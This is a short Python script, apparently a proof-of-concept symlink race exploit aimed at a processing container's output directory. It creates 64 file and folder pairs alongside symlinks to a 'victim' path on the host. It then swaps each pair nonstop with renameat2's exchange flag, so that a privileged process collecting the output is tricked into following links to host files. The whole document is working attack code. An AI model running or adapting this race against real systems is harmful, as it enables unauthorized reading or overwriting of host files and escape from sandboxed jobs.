"""Exchanges files and folders of its output with links to the host's, as fast as it can."""

import ctypes
import os
import sys
import time

victim, seconds = sys.argv[1], float(sys.argv[2])
out = "/opt/ml/processing/out"
libc = ctypes.CDLL(None, use_errno=True)
pairs = []
for number in range(64):
    file, link = f"{out}/file-{number}", f"{out}/link-{number}"
    with open(file, "w") as made:
        made.write("own")
    os.symlink(victim, link)
    folder, way = f"{out}/folder-{number}", f"{out}/way-{number}"
    os.mkdir(folder)
    with open(f"{folder}/{os.path.basename(victim)}", "w") as made:
        made.write("own")
    os.symlink(os.path.dirname(victim), way)
    pairs += [(file, link), (folder, way)]
pairs = [(one.encode(), other.encode()) for one, other in pairs]
until, count = time.monotonic() + seconds, 0
while time.monotonic() < until:
    for one, other in pairs:
        count += not libc.renameat2(-100, one, -100, other, 2)
print("exchanged", count)
